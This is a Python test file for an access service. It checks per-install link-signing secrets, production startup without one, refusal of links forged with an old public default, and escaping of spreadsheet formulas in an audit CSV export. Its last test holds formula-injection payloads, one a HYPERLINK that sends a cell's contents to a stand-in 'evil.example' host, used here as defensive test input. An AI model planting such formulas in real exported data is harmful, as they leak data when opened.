"""No public default secrets, and no formula in an export: a fresh install makes its link-signing secret (0600,
beside its token keys), a link signed with the old public default is refused, production refuses to start without
one; the audit export escapes cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from services.access.main import create_app
from shared.audit import record
from shared.auth import Principal
from shared.secret_files import url_signing_path, url_signing_secret
from shared.settings import Settings
from shared.storage import LinkViewer, SignedLinks
from tests.access.conftest import Access, bearer
from tests.conftest import TokenFactory
from tests.support.apps import running

PUBLIC_DEFAULT = "dev-url-signing-secret"  # what every install shared before


def test_a_fresh_install_makes_its_own_link_secret(tmp_path: Path) -> None:
    settings = Settings(environment="development", data_dir=tmp_path)
    assert settings.url_signing_secret is None
    first = url_signing_secret(settings)
    path = url_signing_path(settings)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert first != PUBLIC_DEFAULT and len(first) >= 32
    assert url_signing_secret(settings) == first  # kept, not made again
    other = Settings(environment="development", data_dir=tmp_path / "other")
    assert url_signing_secret(other) != first  # each install its own


async def test_production_refuses_to_start_without_a_link_secret(tmp_path: Path) -> None:
    prod = Settings(
        environment="production", data_dir=tmp_path, database_url="postgresql://alpr@127.0.0.1:1/alpr",
        password_time_cost=3, password_memory_kib=65536,
    )  # fmt: skip
    with pytest.raises(RuntimeError, match="no URL signing secret"):
        async with running(create_app(prod)):
            pass
    assert not url_signing_path(prod).exists()  # a service never makes one in production


async def test_a_link_forged_with_the_public_default_is_refused(access: Access, make_token: TokenFactory) -> None:
    settings: Settings = access.app.state.settings
    assert settings.url_signing_secret is None  # the test settings too run on a made secret
    viewer = LinkViewer("viewer-1", "MN0271200", "grant-1", "24-000001")
    forged = SignedLinks("", PUBLIC_DEFAULT).url("reads/2026/12/07/x.jpg", 60, viewer)
    token = make_token(subject="viewer-1", roles=["supervisor"], agency="MN0271200", trained_until=2**31 - 1)
    resp = await access.client.get(forged, headers=bearer(token))
    assert resp.status_code == 403, resp.text


async def test_the_audit_export_escapes_cells_a_spreadsheet_would_run(access: Access, make_token: TokenFactory) -> None:
    agency = "MN0271200"
    officer = await access.person("officer", agency=agency)
    token = await access.token(officer)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    async with access.app.state.sessionmaker() as session:
        who = Principal(subject=officer.id, roles=frozenset({"officer"}), agency=agency)
        for text in formulas:
            await record(session, service="access", action="case.note", principal=who, case_number=text)
        await record(session, service="access", action="case.note", principal=who, case_number="CR-2026-7")
        await session.commit()
    auditor = make_token(subject="aud-csv", roles=["auditor"], agency=agency)
    since = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    until = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    resp = await access.client.get(
        "/v1/audit/export", params={"since": since, "until": until, "actor": officer.id}, headers=bearer(auditor)
    )
    assert resp.status_code == 200, resp.text
    assert token  # the officer is a real person of the agency
    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
    cases = [r["case_number"] for r in rows if r["action"] == "case.note"]
    assert cases == ["'" + f for f in formulas] + ["CR-2026-7"]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values())
